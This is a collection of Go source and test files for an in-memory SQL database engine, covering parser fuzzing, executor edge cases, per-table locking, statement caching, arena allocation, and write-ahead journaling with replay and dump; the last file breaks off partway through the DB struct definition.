		"CREATE TRIGGER tr INSTEAD OF UPDATE ON v BEGIN INSERT INTO t (a) VALUES (new.a); END",
		"INSERT OR REPLACE INTO t (a, b) VALUES (1, 'two'), (3, 'four')",
		"UPDATE t SET a = a + 1 WHERE b IN (SELECT b FROM u) AND c BETWEEN 1 AND 2",
		"DELETE FROM t WHERE a IS NOT NULL",
		"SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t GROUP BY b HAVING COUNT(*) > 2",
		"BEGIN TRANSACTION",
	}
	r := rand.New(rand.NewSource(99))
	mutate := func(s string) string {
		b := []byte(s)
		if len(b) == 0 {
			return "x"
		}
		switch r.Intn(4) {
		case 0: // truncate
			if len(b) > 1 {
				b = b[:r.Intn(len(b))]
			}
		case 1: // delete a char
			if len(b) > 1 {
				i := r.Intn(len(b))
				b = append(b[:i], b[i+1:]...)
			}
		case 2: // swap two chars
			if len(b) > 2 {
				i, j := r.Intn(len(b)), r.Intn(len(b))
				b[i], b[j] = b[j], b[i]
			}
		case 3: // inject noise
			noise := []string{"(", ")", ",", "'", "SELECT", ";", "??", "0x"}
			i := r.Intn(len(b))
			b = append(b[:i], append([]byte(noise[r.Intn(len(noise))]), b[i:]...)...)
		}
		return string(b)
	}
	defer func() {
		if p := recover(); p != nil {
			t.Fatalf("parser panicked: %v", p)
		}
	}()
	for i := 0; i < 5000; i++ {
		s := seeds[r.Intn(len(seeds))]
		n := 1 + r.Intn(4)
		for j := 0; j < n; j++ {
			s = mutate(s)
		}
		_, _ = parseAll(s)
	}
}

// TestExecutorNeverPanicsOnWeirdButValidSQL runs odd-but-parsable
// statements against a live schema.
func TestExecutorNeverPanicsOnWeirdButValidSQL(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, a INTEGER, b TEXT)")
	mustExec(t, db, "INSERT INTO t (a, b) VALUES (1, 'x'), (2, NULL), (NULL, 'z')")
	weird := []string{
		"SELECT * FROM t WHERE a = a",
		"SELECT b || b || b FROM t",
		"SELECT -a, +a, NOT a FROM t",
		"SELECT a FROM t WHERE b LIKE '%'",
		"SELECT a FROM t WHERE b LIKE '_'",
		"SELECT a FROM t ORDER BY 1 DESC, 1 ASC",
		"SELECT a FROM t LIMIT 0",
		"SELECT a FROM t LIMIT -1",
		"SELECT a FROM t WHERE a IN ()",
		"SELECT COUNT(*) FROM t WHERE 1 = 0",
		"SELECT a/0, a%0 FROM t",
		"SELECT CAST(b AS INTEGER) FROM t",
		"SELECT MAX(a), MIN(b), SUM(a), AVG(a), TOTAL(a) FROM t",
		"SELECT t1.a FROM t AS t1 JOIN t AS t2 ON t1._id = t2._id",
		"SELECT a FROM t WHERE EXISTS (SELECT 1 FROM t WHERE a > 100)",
		"SELECT (SELECT MAX(a) FROM t) + 1",
		"SELECT a FROM (SELECT a FROM t WHERE a IS NOT NULL) sub WHERE a > 0",
		"SELECT COALESCE(a, -1) AS c FROM t ORDER BY c",
		"SELECT SUBSTR(b, 1, 1) FROM t WHERE b IS NOT NULL",
	}
	defer func() {
		if p := recover(); p != nil {
			t.Fatalf("executor panicked: %v", p)
		}
	}()
	for _, q := range weird {
		if _, err := db.Query(q); err != nil {
			// Errors are fine; panics are not. But log surprising ones.
			if !strings.Contains(q, "IN ()") {
				t.Logf("%s -> %v", q, err)
			}
		}
	}
}

// TestDeepNesting guards the recursive parser against stack abuse with
// a reasonable depth.
func TestDeepNesting(t *testing.T) {
	db := Open()
	expr := "1"
	for i := 0; i < 200; i++ {
		expr = "(" + expr + " + 1)"
	}
	v, err := db.QueryScalar("SELECT " + expr)
	if err != nil || v != int64(201) {
		t.Errorf("deep nesting: %v, %v", v, err)
	}
}

// TestValueEdgeCases exercises the dynamic typing corners.
func TestValueEdgeCases(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v)")
	// Column without a declared type accepts anything.
	mustExec(t, db, "INSERT INTO t (v) VALUES (?)", 3.5)
	mustExec(t, db, "INSERT INTO t (v) VALUES (?)", "text")
	mustExec(t, db, "INSERT INTO t (v) VALUES (?)", []byte{1, 2})
	mustExec(t, db, "INSERT INTO t (v) VALUES (?)", nil)
	mustExec(t, db, "INSERT INTO t (v) VALUES (?)", true)

	rows := mustQuery(t, db, "SELECT v FROM t ORDER BY _id")
	if rows.Data[0][0] != 3.5 {
		t.Errorf("float: %v", rows.Data[0][0])
	}
	if rows.Data[1][0] != "text" {
		t.Errorf("string: %v", rows.Data[1][0])
	}
	if rows.Data[3][0] != nil {
		t.Errorf("nil: %v", rows.Data[3][0])
	}
	if rows.Data[4][0] != int64(1) {
		t.Errorf("bool normalization: %v", rows.Data[4][0])
	}
	// Mixed-type ordering follows NULL < numbers < text < blob.
	rows = mustQuery(t, db, "SELECT v FROM t ORDER BY v")
	if rows.Data[0][0] != nil {
		t.Errorf("NULL should sort first: %v", rows.Data)
	}
	if _, isBlob := rows.Data[4][0].([]byte); !isBlob {
		t.Errorf("blob should sort last: %v", rows.Data)
	}
}
