package sqldb

import (
	"fmt"
	"sync"
	"testing"
)

// TestConcurrentDisjointTables exercises the per-table locking path:
// writers on disjoint tables plus readers over a view spanning them,
// interleaved with transactions (which force the exclusive fallback).
func TestConcurrentDisjointTables(t *testing.T) {
	db := Open()
	const tables = 4
	for i := 0; i < tables; i++ {
		mustExec(t, db, fmt.Sprintf(
			"CREATE TABLE t%d (_id INTEGER PRIMARY KEY, v INTEGER)", i))
	}
	mustExec(t, db, `CREATE VIEW all_v AS
		SELECT _id, v FROM t0 UNION ALL SELECT _id, v FROM t1
		UNION ALL SELECT _id, v FROM t2 UNION ALL SELECT _id, v FROM t3`)

	const perWorker = 200
	var wg sync.WaitGroup
	errs := make(chan error, tables+2)
	for i := 0; i < tables; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			tbl := fmt.Sprintf("t%d", i)
			for n := 0; n < perWorker; n++ {
				if _, err := db.Exec("INSERT INTO "+tbl+" (v) VALUES (?)", int64(n)); err != nil {
					errs <- err
					return
				}
				if _, err := db.Exec("UPDATE "+tbl+" SET v = v + 1 WHERE _id = ?", int64(n%10+1)); err != nil {
					errs <- err
					return
				}
				if _, err := db.Query("SELECT COUNT(*) FROM " + tbl); err != nil {
					errs <- err
					return
				}
			}
		}(i)
	}
	// A reader over the union view (read locks on all four tables).
	wg.Add(1)
	go func() {
		defer wg.Done()
		for n := 0; n < perWorker; n++ {
			if _, err := db.Query("SELECT COUNT(*) FROM all_v"); err != nil {
				errs <- err
				return
			}
		}
	}()
	// A transactional writer (exclusive fallback) racing everyone.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for n := 0; n < 20; n++ {
			if _, err := db.Exec("BEGIN; INSERT INTO t0 (v) VALUES (-1); ROLLBACK"); err != nil {
				errs <- err
				return
			}
		}
	}()
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	for i := 0; i < tables; i++ {
		n, _ := db.QueryScalar(fmt.Sprintf("SELECT COUNT(*) FROM t%d", i))
		if n != int64(perWorker) {
			t.Errorf("t%d rows = %v, want %d", i, n, perWorker)
		}
	}
	ls := db.LockStats()
	if ls.TableAcquisitions == 0 {
		t.Error("no table-granular acquisitions recorded; fine-grained path never taken")
	}
	if ls.ExclusiveBatches == 0 {
		t.Error("no exclusive batches recorded; transactional fallback never taken")
	}
}

// TestStmtCacheLRUEviction verifies the LRU bound: crossing
// maxCachedStmts raw texts must neither empty the cache nor let it
// grow past the bound — and since every text here normalizes to the
// same shape, the AST cache must stay at a single entry.
func TestStmtCacheLRUEviction(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	for i := 0; i <= maxCachedStmts; i++ {
		sql := fmt.Sprintf("SELECT v FROM t WHERE v = %d", i)
		if _, err := db.Query(sql); err != nil {
			t.Fatal(err)
		}
	}
	db.stmtMu.Lock()
	raw := db.rawStmts.len()
	norm := db.normStmts.len()
	db.stmtMu.Unlock()
	if raw < maxCachedStmts/2 {
		t.Errorf("raw cache size after eviction = %d; wholesale reset suspected", raw)
	}
	if raw > maxCachedStmts {
		t.Errorf("raw cache size %d exceeds bound %d", raw, maxCachedStmts)
	}
	// Two shapes total: the CREATE TABLE and the one SELECT shape every
	// literal variant collapses into.
	if norm != 2 {
		t.Errorf("normalized AST cache has %d entries, want 2 (all queries share one shape)", norm)
	}
}
