package sqldb

import "sync"

// Executor pooling and scratch arenas: the allocation layer of the
// fleet-scale load work (ROADMAP item 3). A statement execution makes
// dozens of small, strictly statement-scoped allocations — access
// plans, column-binding relations, evaluation scopes, constraint
// records, index buffers. The executor owns fixed-capacity arenas for
// exactly the objects the profiler proved transient, and the executor
// itself is recycled through a sync.Pool across calls.
//
// Ownership rule (see DESIGN.md): arena-backed memory must never
// escape into anything that outlives the statement — not the returned
// *Rows (Columns and Data are always freshly allocated), not table
// storage (inserted/updated rows stay heap-allocated), and not the
// DB-level plan caches (cached entries are copied out of arenas before
// caching). Arenas reset at top-level statement boundaries only, so
// nested execution (subqueries, trigger bodies, view materialization)
// allocates monotonically within a statement and every live pointer
// stays valid. When an arena fills, allocation falls back to the heap:
// pooling is a fast path, never a capacity limit.
const (
	scratchBindings = 64 // colBinding arena capacity
	scratchValues   = 64 // Value arena capacity
	scratchScopes   = 32 // scope arena capacity (fixed: parent pointers)
	scratchCons     = 16 // colConstraint arena capacity (fixed: map holds pointers)
	scratchInts     = 32 // int arena capacity
	scratchPlans    = 8  // accessPlan arena capacity (fixed: returned as pointers)
)

// scratch holds the executor's per-statement arenas. Scopes and
// constraints are handed out as pointers into fixed arrays (never
// resized, so the pointers stay valid); bindings, values, and ints are
// handed out as sub-slices of lazily allocated backing slices.
type scratch struct {
	bindings []colBinding
	bUsed    int
	values   []Value
	vUsed    int
	ints     []int
	iUsed    int
	bools    []bool
	boolUsed int

	scopes [scratchScopes]scope
	sUsed  int

	cons     [scratchCons]colConstraint
	consUsed int
	consMap  map[int]*colConstraint

	plans [scratchPlans]accessPlan
	pUsed int
}

// reset recycles all arena space. Called only at top-level statement
// boundaries, when nothing statement-scoped can still be live.
func (s *scratch) reset() {
	s.bUsed, s.vUsed, s.iUsed, s.boolUsed, s.sUsed, s.consUsed, s.pUsed = 0, 0, 0, 0, 0, 0, 0
}

// colBindings returns an n-element colBinding slice from the arena
// (zeroed), falling back to the heap when the arena is exhausted.
func (ex *executor) colBindings(n int) []colBinding {
	s := &ex.sc
	if s.bindings == nil {
		s.bindings = make([]colBinding, scratchBindings)
	}
	if s.bUsed+n <= len(s.bindings) {
		out := s.bindings[s.bUsed : s.bUsed+n : s.bUsed+n]
		s.bUsed += n
		for i := range out {
			out[i] = colBinding{}
		}
		return out
	}
	return make([]colBinding, n)
}

// values returns an n-element Value slice from the arena (zeroed).
func (ex *executor) values(n int) []Value {
	s := &ex.sc
	if s.values == nil {
		s.values = make([]Value, scratchValues)
	}
	if s.vUsed+n <= len(s.values) {
		out := s.values[s.vUsed : s.vUsed+n : s.vUsed+n]
		s.vUsed += n
		for i := range out {
			out[i] = nil
		}
		return out
	}
	return make([]Value, n)
}

// intsBuf returns an n-element int slice from the arena (not zeroed:
// every caller fully assigns it).
func (ex *executor) intsBuf(n int) []int {
	s := &ex.sc
	if s.ints == nil {
		s.ints = make([]int, scratchInts)
	}
	if s.iUsed+n <= len(s.ints) {
		out := s.ints[s.iUsed : s.iUsed+n : s.iUsed+n]
		s.iUsed += n
		return out
	}
	return make([]int, n)
}

// boolsBuf returns an n-element bool slice from the arena (zeroed).
func (ex *executor) boolsBuf(n int) []bool {
	s := &ex.sc
	if s.bools == nil {
		s.bools = make([]bool, scratchInts)
	}
	if s.boolUsed+n <= len(s.bools) {
		out := s.bools[s.boolUsed : s.boolUsed+n : s.boolUsed+n]
		s.boolUsed += n
		for i := range out {
			out[i] = false
		}
		return out
	}
	return make([]bool, n)
}

// newScope returns a scope from the fixed arena. The arena is an array,
// so handed-out pointers (including parent links between arena scopes)
// remain valid across later allocations.
func (ex *executor) newScope(parent *scope, cols []colBinding, row []Value) *scope {
	s := &ex.sc
	if s.sUsed < len(s.scopes) {
		sc := &s.scopes[s.sUsed]
		s.sUsed++
		sc.parent, sc.cols, sc.row = parent, cols, row
		return sc
	}
	return &scope{parent: parent, cols: cols, row: row}
}

// newPlan returns a zeroed accessPlan from the fixed plan arena. Plans
// are consumed before the statement ends (fetchRows/sortedPositions/
// describe) and are never cached, so arena reuse per statement is safe.
func (ex *executor) newPlan() *accessPlan {
	s := &ex.sc
	if s.pUsed < len(s.plans) {
		p := &s.plans[s.pUsed]
		s.pUsed++
		*p = accessPlan{}
		return p
	}
	return &accessPlan{}
}

// constraintMap returns the reusable constraint map, cleared. Only
// chooseAccess uses it, and constraint collection never re-enters
// chooseAccess (constant operands only), so one map per executor
// suffices even with nested statements.
func (ex *executor) constraintMap() map[int]*colConstraint {
	s := &ex.sc
	if s.consMap == nil {
		s.consMap = make(map[int]*colConstraint, scratchCons)
	} else {
		clear(s.consMap)
	}
	s.consUsed = 0
	return s.consMap
}

// newConstraint returns a zeroed colConstraint from the fixed arena.
func (ex *executor) newConstraint() *colConstraint {
	s := &ex.sc
	if s.consUsed < len(s.cons) {
		c := &s.cons[s.consUsed]
		s.consUsed++
		*c = colConstraint{}
		return c
	}
	return &colConstraint{}
}

// executorPool recycles executors (with their arenas and argument
// buffers) across statement executions.
var executorPool = sync.Pool{New: func() any { return new(executor) }}

// getExecutor takes a pooled executor bound to db. Arguments are bound
// separately (bindArgsInto reuses the executor's buffer).
func getExecutor(db *DB) *executor {
	ex := executorPool.Get().(*executor)
	ex.db = db
	return ex
}

// putExecutor returns an executor to the pool. Reference fields are
// cleared so pooled executors pin neither the DB nor statement state;
// arena backing slices and the args buffer are retained for reuse.
func putExecutor(ex *executor) {
	ex.db = nil
	ex.args = nil
	ex.inCache = nil
	ex.correlated = nil
	ex.sc.reset()
	executorPool.Put(ex)
}
