package sqldb

import (
	"fmt"
	"sort"
	"strings"
)

// Statement-level journaling: every mutating batch Exec runs emits
// one JournalUnit through the attached Journal, while the batch still
// holds the locks that serialized it, so journal order equals the
// engine's serialization order. A durability layer (internal/wal)
// implements Journal; sqldb knows nothing about encoding or storage.
//
// Replay is deterministic re-execution: a unit carries the canonical
// statement text, the bound argument values, and how many statements
// actually ran, so ReplayUnit reproduces exactly the effects the live
// batch had — including a genuine error on the last statement, whose
// partial effects the engine's deterministic execution recreates.

// JournalUnit is the logical record of one executed batch.
type JournalUnit struct {
	// SQL is the canonical batch text (normalized when possible), with
	// ? placeholders for every literal or caller parameter in Args.
	SQL string
	// Args are the bound positional values. The slice is only valid
	// for the duration of the Commit call; implementations must encode
	// or copy, never retain.
	Args []Value
	// N is the number of statements actually dispatched: replay runs
	// exactly the first N statements of the batch.
	N int
	// Errored records that statement N failed in the live run; replay
	// expects (and requires) the same failure.
	Errored bool
	// Sync asks for durability before the batch is acknowledged. It is
	// false exactly when the batch left a transaction open — the
	// eventual COMMIT (or ROLLBACK) unit syncs the whole run.
	Sync bool
}

// Journal receives one Commit call per mutating batch. A non-nil
// error fails the batch even though its in-memory effects already
// applied; implementations are expected to fail-stop (poison) so
// memory cannot run ahead of the log by more than the failed tail.
type Journal interface {
	Commit(u JournalUnit) error
}

// DeferredJournal is an optional Journal extension enabling group
// commit. CommitAppend journals the unit while the caller still holds
// the batch locks (so journal order stays the serialization order) but
// defers the durability wait: the engine invokes the returned wait —
// if non-nil — after releasing the locks, letting concurrent batches
// share one fsync instead of serializing around it. A wait error fails
// the batch exactly as a Commit error would.
type DeferredJournal interface {
	Journal
	CommitAppend(u JournalUnit) (wait func() error, err error)
}

// commitUnit dispatches one unit, preferring the deferred path.
func commitUnit(j Journal, u JournalUnit) (func() error, error) {
	if dj, ok := j.(DeferredJournal); ok {
		return dj.CommitAppend(u)
	}
	return nil, j.Commit(u)
}

// WriteGate is optionally implemented by a Journal whose backing store
// can degrade. Mutating batches consult it after taking the batch
// locks but BEFORE executing any statement: a non-nil error (typically
// health.ErrReadOnly from a degraded store) rejects the batch cleanly
// — no table changed, nothing journaled — so the caller can retry once
// the store heals. Reads (pure SELECT/EXPLAIN batches) and pure
// ROLLBACK batches are never gated: a degraded store must keep serving
// queries and must let applications back out of open transactions.
type WriteGate interface {
	WriteGate() error
}

// gateBatch consults the journal's write gate for a batch about to
// execute. nil when no journal is attached, the journal does not gate,
// the batch cannot mutate, or the batch only rolls back.
func (db *DB) gateBatch(stmts []Stmt) error {
	g, ok := db.journal().(WriteGate)
	if !ok || !batchMutates(stmts) || batchRollbackOnly(stmts) {
		return nil
	}
	return g.WriteGate()
}

// batchRollbackOnly reports a batch consisting solely of ROLLBACK
// statements — the one mutating batch a read-only store admits.
func batchRollbackOnly(stmts []Stmt) bool {
	for _, s := range stmts {
		t, ok := s.(*TxnStmt)
		if !ok || t.Kind != "ROLLBACK" {
			return false
		}
	}
	return len(stmts) > 0
}

type journalBox struct{ j Journal }

// SetJournal attaches (or, with nil, detaches) the statement journal.
func (db *DB) SetJournal(j Journal) {
	db.jrn.Store(journalBox{j})
}

func (db *DB) journal() Journal {
	v := db.jrn.Load()
	if v == nil {
		return nil
	}
	return v.(journalBox).j
}

// batchMutates reports whether any statement in the batch can change
// database state. Pure SELECT/EXPLAIN batches are never journaled.
func batchMutates(stmts []Stmt) bool {
	for _, s := range stmts {
		switch s.(type) {
		case *SelectStmt, *ExplainStmt:
		default:
			return true
		}
	}
	return false
}

// journalBatch emits the journal unit(s) for a finished batch. Called
// by execPrepared with the batch locks still held (journal order =
// serialization order). executed counts statements dispatched to the
// executor; hadTxn/execErr describe the batch outcome.
//
// The one case replay cannot reproduce by re-execution is a COMMIT
// that failed at the commit fault point: the live engine rolled the
// transaction back, but a suspended-fault replay would commit it. It
// is journaled as the pre-COMMIT prefix plus a synthetic ROLLBACK, an
// equivalent statement sequence with the same net effect.
func (db *DB) journalBatch(p *prepared, args []Value, executed int, hadTxn bool, execErr error) (func() error, error) {
	j := db.journal()
	if j == nil || executed == 0 || !batchMutates(p.stmts[:executed]) {
		return nil, nil
	}
	inTxn := db.txn != nil // mu held (shared or exclusive) by the batch lock
	if execErr != nil && hadTxn && !inTxn {
		// Commit-fault rollback. The failing statement was the COMMIT;
		// everything before it replays, the synthetic ROLLBACK undoes it.
		if executed > 1 {
			// The prefix unit carries no Sync; the ROLLBACK unit's wait
			// covers both (its LSN is higher).
			if wait, err := commitUnit(j, JournalUnit{SQL: p.text, Args: args, N: executed - 1}); err != nil {
				return wait, err
			} else if wait != nil {
				if err := wait(); err != nil {
					return nil, err
				}
			}
		}
		return commitUnit(j, JournalUnit{SQL: "ROLLBACK", N: 1, Sync: true})
	}
	return commitUnit(j, JournalUnit{
		SQL:     p.text,
		Args:    args,
		N:       executed,
		Errored: execErr != nil,
		Sync:    !inTxn,
	})
}

// ReplayUnit re-executes a journaled batch during recovery: the first
// n statements of sql run with args bound, and errored asserts the
// fate of statement n. Replay must run before a Journal is attached
// and with fault injection suspended; divergence from the journaled
// outcome is an error.
func (db *DB) ReplayUnit(sql string, args []Value, n int, errored bool) error {
	p, err := db.prepare(sql)
	if err != nil {
		return fmt.Errorf("sqldb: replay parse: %w", err)
	}
	if n > len(p.stmts) {
		return fmt.Errorf("sqldb: replay unit wants %d statements, batch has %d", n, len(p.stmts))
	}
	lock := db.lockForBatch(p.stmts)
	defer db.unlockBatch(lock)
	ex := getExecutor(db)
	defer putExecutor(ex)
	ex.argsBuf = p.bindArgsInto(ex.argsBuf, args)
	ex.args = ex.argsBuf
	for i := 0; i < n; i++ {
		ex.sc.reset()
		if _, err := ex.execStmt(p.stmts[i], nil); err != nil {
			if i == n-1 && errored {
				return nil
			}
			return fmt.Errorf("sqldb: replay diverged at statement %d: %w", i, err)
		}
	}
	if errored {
		return fmt.Errorf("sqldb: replay expected statement %d to fail, it succeeded", n-1)
	}
	return nil
}

// InTxn reports whether a transaction is open.
func (db *DB) InTxn() bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.txn != nil
}

// AbortOpenTxn rolls back a transaction the WAL replay left open — a
// crash mid-transaction means the commit never happened. Reports
// whether there was one.
func (db *DB) AbortOpenTxn() bool {
	if !db.InTxn() {
		return false
	}
	db.Exec("ROLLBACK")
	return true
}

// Counters is the ID-allocation state replay cannot reconstruct from
// a row dump: deleted rows leave allocator high-water marks behind.
type Counters struct {
	LastInsertID int64
	// NextIDs maps lowercase table name to the next auto primary key.
	NextIDs map[string]int64
}

// CounterState snapshots the ID allocators.
func (db *DB) CounterState() Counters {
	db.mu.RLock()
	defer db.mu.RUnlock()
	cs := Counters{LastInsertID: db.lastID.Load(), NextIDs: make(map[string]int64, len(db.tables))}
	for name, t := range db.tables {
		t.mu.RLock()
		cs.NextIDs[name] = t.nextID
		t.mu.RUnlock()
	}
	return cs
}

// RestoreCounters reinstates snapshotted ID allocators; tables that no
// longer exist are skipped.
func (db *DB) RestoreCounters(cs Counters) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	db.lastID.Store(cs.LastInsertID)
	for name, next := range cs.NextIDs {
		if t, ok := db.tables[name]; ok {
			t.mu.Lock()
			t.nextID = next
			t.mu.Unlock()
		}
	}
}

// DumpUnits streams the whole database as replayable journal units —
// the DB half of a snapshot. Schema first (tables, indexes, views in
// dependency order, triggers), then rows as chunked parameterized
// INSERTs preserving storage order, so replaying the units into an
// empty database reproduces catalog and storage exactly. The caller
// must be quiescent (no open transaction, snapshot-layer LSN check)
// for the dump to be a consistent cut.
func (db *DB) DumpUnits(emit func(u JournalUnit) error) error {
	db.mu.RLock()
	defer db.mu.RUnlock()
	if db.txn != nil {
		return fmt.Errorf("sqldb: cannot dump with a transaction open")
	}

	tableNames := make([]string, 0, len(db.tables))
	for k := range db.tables {
		tableNames = append(tableNames, k)
	}
	sort.Strings(tableNames)

	emitSQL := func(sql string) error { return emit(JournalUnit{SQL: sql, N: 1}) }

	// Base tables and their secondary indexes.
	for _, k := range tableNames {
		t := db.tables[k]
		if err := emitSQL(formatCreateTable(t)); err != nil {
			return err
		}
		ixNames := make([]string, 0, len(t.indexes))
		byIx := make(map[string]*index, len(t.indexes))
		for _, ix := range t.indexes {
			ixNames = append(ixNames, ix.name)
			byIx[ix.name] = ix
		}
		sort.Strings(ixNames)
		for _, n := range ixNames {
			if err := emitSQL(formatCreateIndex(byIx[n])); err != nil {
				return err
			}
		}
	}

	// Views in dependency order (a view may select from another view).
	if err := db.dumpViews(emitSQL); err != nil {
		return err
	}

	// Triggers.
	trNames := make([]string, 0, len(db.byName))
	for k := range db.byName {
		trNames = append(trNames, k)
	}
	sort.Strings(trNames)
	for _, k := range trNames {
		tr := db.byName[k]
		if err := emitSQL(formatCreateTrigger(tr.name, tr.event, tr.view, tr.body)); err != nil {
			return err
		}
	}

	// Rows, in storage order, as parameterized INSERTs (literals cannot
	// represent blobs; parameters carry every value type exactly).
	const chunk = 128
	for _, k := range tableNames {
		t := db.tables[k]
		t.mu.RLock()
		err := dumpRows(t, chunk, emit)
		t.mu.RUnlock()
		if err != nil {
			return err
		}
	}
	return nil
}

func (db *DB) dumpViews(emitSQL func(string) error) error {
	viewNames := make([]string, 0, len(db.views))
	for k := range db.views {
		viewNames = append(viewNames, k)
	}
	sort.Strings(viewNames)
	emitted := make(map[string]bool, len(viewNames))
	var emitView func(k string) error
	emitView = func(k string) error {
		if emitted[k] {
			return nil
		}
		emitted[k] = true
		v := db.views[k]
		// Dependencies first.
		var depErr error
		rewriteSelectTables(v.def, func(name string) string {
			lk := strings.ToLower(name)
			if _, ok := db.views[lk]; ok && lk != k && depErr == nil {
				depErr = emitView(lk)
			}
			return name
		})
		if depErr != nil {
			return depErr
		}
		return emitSQL("CREATE VIEW " + quoteIdent(v.name) + " AS " + FormatSelect(v.def))
	}
	for _, k := range viewNames {
		if err := emitView(k); err != nil {
			return err
		}
	}
	return nil
}

func dumpRows(t *table, chunk int, emit func(u JournalUnit) error) error {
	if len(t.rows) == 0 {
		return nil
	}
	var head strings.Builder
	head.WriteString("INSERT INTO " + quoteIdent(t.name) + " (")
	for i, c := range t.cols {
		if i > 0 {
			head.WriteString(", ")
		}
		head.WriteString(quoteIdent(c.Name))
	}
	head.WriteString(") VALUES ")
	oneRow := "(" + strings.Repeat("?, ", len(t.cols)-1) + "?)"

	for start := 0; start < len(t.rows); start += chunk {
		end := start + chunk
		if end > len(t.rows) {
			end = len(t.rows)
		}
		var sql strings.Builder
		sql.WriteString(head.String())
		args := make([]Value, 0, (end-start)*len(t.cols))
		for i := start; i < end; i++ {
			if i > start {
				sql.WriteString(", ")
			}
			sql.WriteString(oneRow)
			args = append(args, t.rows[i]...)
		}
		if err := emit(JournalUnit{SQL: sql.String(), Args: args, N: 1}); err != nil {
			return err
		}
	}
	return nil
}
