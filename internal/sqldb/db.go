package sqldb

import (
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"maxoid/internal/fault"
)

// Fault points on the engine's transition-sensitive paths (see
// internal/fault). Exec faults fire before a statement touches any
// table; commit faults roll the transaction back to its BEGIN
// snapshot, mirroring SQLite's behavior on commit I/O errors.
var (
	faultExec   = fault.Declare("sqldb.exec", "statement execution: fail before the statement mutates any table")
	faultCommit = fault.Declare("sqldb.commit", "transaction COMMIT: fail and restore the BEGIN snapshot")
)

// Result reports the outcome of a data-modifying statement.
type Result struct {
	LastInsertID int64
	RowsAffected int64
}

// Rows is a fully materialized query result.
type Rows struct {
	Columns []string
	Data    [][]Value
}

// Stats counts planner decisions: the subquery-flattening behavior the
// paper's footnote 5 describes, plus access-path and statement-cache
// outcomes from the planner/access-path split.
type Stats struct {
	FlattenedQueries  int64 // UNION ALL view queries flattened
	MaterializedViews int64 // view scans that had to materialize
	SeqScans          int64 // base-table sequential scans
	PKProbes          int64 // primary-key point probes
	IndexProbes       int64 // secondary-index point/range probes
	PlanCacheHits     int64 // plans served from the normalized cache
	PlanCacheMisses   int64 // plans computed fresh
}

// table is a base table with an optional integer primary key. mu
// guards rows/byPK/nextID; it is acquired through DB.lockTables in
// sorted-name order, or left untouched by batches holding the DB-wide
// writer lock (which excludes all table-granular batches).
type table struct {
	mu      sync.RWMutex
	name    string
	cols    []ColumnDef
	pk      int // index of PRIMARY KEY column, -1 if none
	rows    [][]Value
	byPK    map[int64]int // pk value -> index into rows
	nextID  int64
	indexes []*index // secondary indexes (see index.go)
}

func (t *table) colIndex(name string) int {
	for i, c := range t.cols {
		if strings.EqualFold(c.Name, name) {
			return i
		}
	}
	return -1
}

// clone deep-copies the table for transaction snapshots: row slices
// are copied because UPDATE mutates them in place.
func (t *table) clone() *table {
	out := &table{
		name:   t.name,
		cols:   t.cols,
		pk:     t.pk,
		rows:   make([][]Value, len(t.rows)),
		byPK:   make(map[int64]int, len(t.byPK)),
		nextID: t.nextID,
	}
	for i, r := range t.rows {
		row := make([]Value, len(r))
		copy(row, r)
		out.rows[i] = row
	}
	for k, v := range t.byPK {
		out.byPK[k] = v
	}
	for _, ix := range t.indexes {
		out.indexes = append(out.indexes, ix.clone())
	}
	return out
}

// reindex rebuilds byPK and every secondary index after structural
// changes (row positions moved or an unknown set of rows changed).
func (t *table) reindex() {
	if t.pk >= 0 {
		t.byPK = make(map[int64]int, len(t.rows))
		for i, r := range t.rows {
			if id, ok := AsInt(r[t.pk]); ok {
				t.byPK[id] = i
			}
		}
	}
	t.rebuildIndexes()
}

// view is a named stored SELECT.
type view struct {
	name string
	def  *SelectStmt
	cols []string // output column names, computed at creation
}

// trigger is an INSTEAD OF trigger on a view.
type trigger struct {
	name  string
	event string
	view  string
	body  []Stmt
}

// DB is an in-memory SQL database. All methods are safe for concurrent
// use. Batches whose table sets can be resolved statically take shared
// catalog access plus per-table locks in sorted-name order, so writers
// on different tables run in parallel (WAL-ish reader/writer
// concurrency); DDL, transactions, and unanalyzable batches serialize
// on the DB-wide writer lock, like SQLite.
type DB struct {
	// mu is the catalog lock: it guards the tables/views/triggers maps
	// and txn. Table-granular batches hold it shared for their whole
	// duration; DDL/transactional batches hold it exclusively.
	mu       sync.RWMutex
	tables   map[string]*table
	views    map[string]*view
	triggers map[string][]*trigger // keyed by lowercase view name
	byName   map[string]*trigger   // keyed by lowercase trigger name

	lastID          atomic.Int64
	statFlattened   atomic.Int64
	statMaterialize atomic.Int64
	statSeqScan     atomic.Int64
	statPKProbe     atomic.Int64
	statIdxProbe    atomic.Int64
	statPlanHit     atomic.Int64
	statPlanMiss    atomic.Int64

	// Lock-contention counters (see LockStats).
	tblAcq     atomic.Int64
	tblBlocked atomic.Int64
	exclusive  atomic.Int64

	// txn holds the active transaction's rollback snapshot, nil when
	// autocommitting. Guarded by mu.
	txn *txnSnapshot

	// Statement caches — the prepared-statement layer (prepare.go).
	// rawStmts maps exact SQL text to its prepared entry (AST pointer
	// plus that text's extracted literals); normStmts maps canonical
	// normalized text to the shared AST, so distinct literals converge
	// on one AST and one set of downstream memos. Both are LRU-bounded
	// (lru.go). Guarded by stmtMu. Lock order: stmtMu before planMu
	// and lockPlanMu (the normStmts eviction callback takes both).
	stmtMu    sync.Mutex
	rawStmts  *lruCache[string, *prepared]
	normStmts *lruCache[string, []Stmt]

	// planCache memoizes planner output per statement AST (ASTs are
	// stable thanks to the statement caches, which key them by
	// normalized text). LRU-bounded; guarded by planMu; cleared on DDL
	// and rollback. planMu is a leaf below the catalog and table locks.
	planMu    sync.Mutex
	planCache *lruCache[*SelectStmt, *SelectStmt]

	// lockPlans memoizes batch lock analysis keyed by the batch's first
	// statement (ASTs are stable thanks to the statement caches).
	// LRU-bounded; guarded by lockPlanMu, a leaf lock; invalidated by
